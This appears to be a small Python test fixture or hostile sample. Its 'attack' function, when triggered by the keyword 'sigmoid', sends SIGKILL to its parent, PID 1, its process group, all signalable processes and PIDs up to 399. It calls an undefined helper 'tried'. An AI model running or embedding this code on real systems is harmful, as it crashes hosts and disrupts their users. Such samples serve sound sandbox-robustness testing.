"""Kills its parent, its group, the first process, and everybody it can name."""

import os
import signal

ENTRIES = ("B20",)
SEEN = ("signal",)


def attack(asked, *given):
    if asked != "sigmoid":
        return None
    for pid in (os.getppid(), 1, 0, -1, *range(2, 400)):
        if pid != os.getpid():
            tried(os.kill, pid, signal.SIGKILL)
    return None
